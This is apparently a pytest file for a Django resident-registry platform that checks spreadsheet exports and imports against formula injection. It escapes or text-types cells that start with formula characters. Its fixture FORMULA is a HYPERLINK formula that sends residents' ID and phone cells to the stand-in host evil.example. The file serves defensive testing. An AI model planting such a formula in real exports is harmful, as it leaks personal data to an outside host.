"""Issue 14, severe 1: a text that a spreadsheet would run as a formula is written as text in
every .xlsx and escaped with ' in every CSV the platform produces; imports warn on such cells."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.utils import translation
from openpyxl import load_workbook

from fangguan.accounts.roles import grants
from fangguan.imports.specs import N_FORMULA_TEXT
from fangguan.registry import models as m

from ..imports.conftest import csv_bytes
from ..kit.files import without_mark

FORMULA = '=HYPERLINK("http://evil.example/c?id="&E2&"&tel="&F2,"点击查看")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


def xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]


def no_formula_xml(content: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def own_person(user) -> int:
    return next(g.person_id for g in grants(user) if g.person_id)


def test_a_residents_formula_address_is_text_in_the_bureaus_exports(api, users, settings):
    # the file within the request (a background job writes the same cells: tests/exports)
    settings.FANGGUAN_EXPORT_BACKGROUND_ROWS = 10**9
    pid = own_person(users["yezhu"])
    before = m.Person.objects.get(pk=pid).address
    r = api("yezhu").patch(f"/api/v1/people/{pid}", {"address": FORMULA})
    assert r.status_code == 200, r.content
    try:
        r = api("admin").get("/api/v1/people/export", format="xlsx", id=pid)
        assert r.status_code == 200
        content = b"".join(r.streaming_content) if r.streaming else r.content
        cells = [c for c in xlsx_cells(content) if c.value == FORMULA]
        assert cells and all(c.data_type == "s" for c in cells)  # text, not 'f'
        assert no_formula_xml(content)
        rows = csv_rows(api("admin").get("/api/v1/people/export", format="csv", id=pid))
        assert "'" + FORMULA in [v for row in rows for v in row]
        assert FORMULA not in [v for row in rows for v in row]
    finally:
        m.Person.objects.filter(pk=pid).update(address=before)


def test_a_text_with_control_characters_still_exports_as_xlsx():
    """XML cannot hold most control characters and openpyxl refuses them: one pasted address with a
    vertical tab once failed a whole export with a 500. They are dropped; the rest is kept."""
    from openpyxl import Workbook

    from fangguan.core.exports import append_row, put

    for write_only in (True, False):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("x")
        if write_only:
            append_row(sheet, ["金山\x0b卫镇\x00", "=1\x1f+1"])
        else:
            put(sheet, 1, 1, "金山\x0b卫镇\x00")
            put(sheet, 1, 2, "=1\x1f+1")
        out = io.BytesIO()
        book.save(out)
        read = load_workbook(out).worksheets[-1]
        assert (read["A1"].value, read["B1"].value, read["B1"].data_type) == ("金山卫镇", "=1+1", "s")


def test_labels_ids_and_moments_export_as_values_a_spreadsheet_holds():
    """The security log's .xlsx export once failed (a 500) on an outcome's translated label: a lazy
    text openpyxl does not know. Labels, UUIDs and addresses become their text; an aware moment
    becomes local time (Asia/Shanghai), which Excel shows as the office reads it."""
    import datetime as dt
    import uuid

    from django.utils.translation import gettext_lazy
    from openpyxl import Workbook

    from fangguan.core.exports import append_row, csv_cell

    request_id = uuid.UUID("12345678-1234-5678-1234-567812345678")
    moment = dt.datetime(2026, 1, 31, 16, 30, tzinfo=dt.UTC)  # 2026-02-01 00:30 in Shanghai
    book = Workbook(write_only=True)
    with translation.override("zh-hans"):
        append_row(book.create_sheet("x"), [gettext_lazy("Yes"), request_id, moment])
    out = io.BytesIO()
    book.save(out)
    read = load_workbook(out).worksheets[-1]
    assert [c.value for c in read[1]] == ["是", str(request_id), dt.datetime(2026, 2, 1, 0, 30)]
    assert csv_cell(request_id) == str(request_id)


@pytest.mark.django_db  # whether the database holds the demo decides the file's first row
@pytest.mark.parametrize("value", STARTS)
def test_every_formula_start_is_escaped(value):
    from openpyxl import Workbook

    from fangguan.core.exports import append_row, csv_cell, csv_lines

    assert csv_cell(value) == "'" + value
    assert csv_cell(-3) == -3 and csv_cell("a=b") == "a=b"  # numbers and ordinary texts untouched
    line = "".join(csv_lines(["h"], [[value]]))
    assert without_mark(list(csv.reader(io.StringIO(line.lstrip("\ufeff")))))[1] == ["'" + value]
    for write_only in (True, False):
        book = Workbook(write_only=write_only)
        append_row(book.create_sheet("x"), [value, 5])
        out = io.BytesIO()
        book.save(out)
        assert no_formula_xml(out.getvalue())
        sheet = load_workbook(out).worksheets[-1]
        assert sheet["A1"].value == value.replace("\r", "\n") or sheet["A1"].data_type == "s"
        assert sheet["B1"].value == 5


def test_an_imported_formula_is_warned_about_and_exported_as_text(place, api, run_import):
    content = csv_bytes([["小区编码", "设施类型", "位置", "数量"], ["IMP001", "非机动车集中充电场所", FORMULA, "2"]],
                        encoding="gbk")
    job = run_import("admin", "facilities", content, name="facilities.csv")
    assert job.status == "succeeded" and job.created == 1, job.errors
    with translation.override(job.language or None):
        warning = str(N_FORMULA_TEXT)
    assert [(n["column"], n["count"]) for n in job.notes if n["what"] == warning] == [("位置", 1)], job.notes
    r = api("admin").get("/api/v1/facilities/export", format="xlsx", estate=place.estate.pk)
    content = b"".join(r.streaming_content) if r.streaming else r.content
    assert [c.data_type for c in xlsx_cells(content) if c.value == FORMULA] == ["s"]
    assert no_formula_xml(content)
    # the platform's own CSV export, re-imported as it is, changes nothing (the ' is read back)
    rows = csv_rows(api("admin").get("/api/v1/facilities/export", format="csv", estate=place.estate.pk))
    again = run_import("admin", "facilities", csv_bytes(rows), name="again.csv")
    assert (again.status, again.unchanged, again.created) == ("succeeded", 1, 0), again.errors
    assert m.Facility.objects.get(estate=place.estate).location == FORMULA


def test_error_sheets_and_templates_hold_no_formula(place, api, run_import):
    content = csv_bytes([["小区编码", "设施类型", "位置", "数量"], ["IMP001", "非机动车集中充电场所", FORMULA, "不是数字"]])
    job = run_import("admin", "facilities", content, name="bad.csv", mode="valid_rows")
    assert job.failed == 1 and job.error_sheet
    sheet = job.error_sheet.read()
    assert no_formula_xml(sheet) and FORMULA in [c.value for c in xlsx_cells(sheet)]
    for kind in ("facilities", "people", "homes"):
        assert no_formula_xml(api("admin").get(f"/api/v1/imports/templates/{kind}").content)


def test_no_module_writes_spreadsheet_cells_itself():
    """Every cell goes through core.exports (append_row / put / csv_lines): a module calling
    openpyxl's append or cell(value=…) itself, or the csv writer, would bypass the escaping."""
    src = Path(__file__).resolve().parents[2] / "src" / "fangguan"
    offenders = []
    for path in src.rglob("*.py"):
        if path.name == "exports.py" and path.parent.name == "core":
            continue
        text = path.read_text()
        if "openpyxl" not in text and "csv.writer" not in text:
            continue
        for n, line in enumerate(text.splitlines(), 1):
            if re.search(r"\b(sheet|ws|book|notes|years|review|info|_sheet)\.append\(|\.cell\([^)]*value=|csv\.writer\(",
                         line):
                offenders.append(f"{path.relative_to(src)}:{n}: {line.strip()}")
    assert not offenders, offenders
